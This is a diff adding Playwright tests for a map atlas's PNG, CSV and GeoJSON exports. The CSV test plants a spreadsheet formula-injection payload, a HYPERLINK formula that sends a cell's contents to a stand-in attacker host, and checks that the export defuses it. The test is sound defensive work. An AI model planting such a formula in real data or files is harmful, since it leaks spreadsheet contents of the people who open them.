@@ -1,0 +1,74 @@
+import { readFileSync } from 'node:fs';
+import { expect, test, type Page } from '@playwright/test';
+import { open } from './helpers';
+
+async function exportFile(page: Page, action: string): Promise<Buffer> {
+  await page.locator('.share summary').click();
+  const download = page.waitForEvent('download');
+  await page.locator(`.share-panel [data-action=${action}]`).click();
+  return readFileSync(await (await download).path());
+}
+
+test('PNG export: the map at 2× with title and legend, never a blank canvas', async ({ page }) => {
+  await page.setViewportSize({ width: 1000, height: 700 });
+  await open(page, './#date=2025-03-01&sel=VN-13');
+  await page.evaluate(() => window.atlas?.idle());
+  const map = (await page.locator('#map').boundingBox())!;
+  const png = await exportFile(page, 'png');
+  expect(png.subarray(1, 4).toString()).toBe('PNG');
+  // IHDR: width and height, big-endian, at bytes 16 and 20.
+  expect(png.readUInt32BE(16)).toBe(Math.round(map.width) * 2);
+  expect(png.readUInt32BE(20)).toBe((Math.round(map.height) + 64 + 52) * 2);
+  // Decode it in the page and look at the map area: many colours (land, sea, arcs), the arc red among them.
+  const stats = await page.evaluate(async (b64) => {
+    const img = new Image();
+    img.src = `data:image/png;base64,${b64}`;
+    await img.decode();
+    const c = document.createElement('canvas');
+    c.width = img.width;
+    c.height = img.height;
+    const ctx = c.getContext('2d')!;
+    ctx.drawImage(img, 0, 0);
+    const data = ctx.getImageData(0, 128, img.width, img.height - 128 - 104).data;
+    const colours = new Set<number>();
+    let red = 0;
+    for (let i = 0; i < data.length; i += 4) {
+      colours.add((data[i]! << 16) | (data[i + 1]! << 8) | data[i + 2]!);
+      if (
+        Math.abs(data[i]! - 0xb8) < 20 &&
+        Math.abs(data[i + 1]! - 0x32) < 20 &&
+        Math.abs(data[i + 2]! - 0x2c) < 20
+      )
+        red++;
+    }
+    return { colours: colours.size, red };
+  }, png.toString('base64'));
+  expect(stats.colours).toBeGreaterThan(50);
+  expect(stats.red).toBeGreaterThan(100);
+});
+
+test('CSV export defuses a formula planted in the data', async ({ page }) => {
+  await page.route('**/data/atlas.json', async (route) => {
+    const res = await route.fetch();
+    const atlas = await res.json();
+    const hanoi = atlas.events.find((e: { date: string }) => e.date === '2018-11-21');
+    hanoi.title.fr = '=HYPERLINK("http://evil.example/?"&A1,"clic")';
+    hanoi.source.outlet = '@SUM(1+1)';
+    await route.fulfill({ response: res, json: atlas });
+  });
+  await open(page, './#date=2019-01-01');
+  const csv = (await exportFile(page, 'csv')).toString('utf8');
+  expect(csv.charCodeAt(0)).toBe(0xfeff);
+  const [header, row] = csv.slice(1).trim().split('\r\n');
+  expect(header?.split(',')).toContain('title');
+  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"`);
+  expect(row).toContain(`'@SUM(1+1)`);
+  expect(row).not.toMatch(/(^|,)"?[=@+-]/);
+});
+
+test('GeoJSON export has one line per partnership shown', async ({ page }) => {
+  await open(page, './#date=2026-01-01');
+  const fc = JSON.parse((await exportFile(page, 'geojson')).toString('utf8'));
+  const shown = await page.evaluate(() => window.atlas!.state().visibleArcs.map((a) => a.id));
+  expect(fc.features.map((f: { id: string }) => f.id)).toEqual(shown);
+});
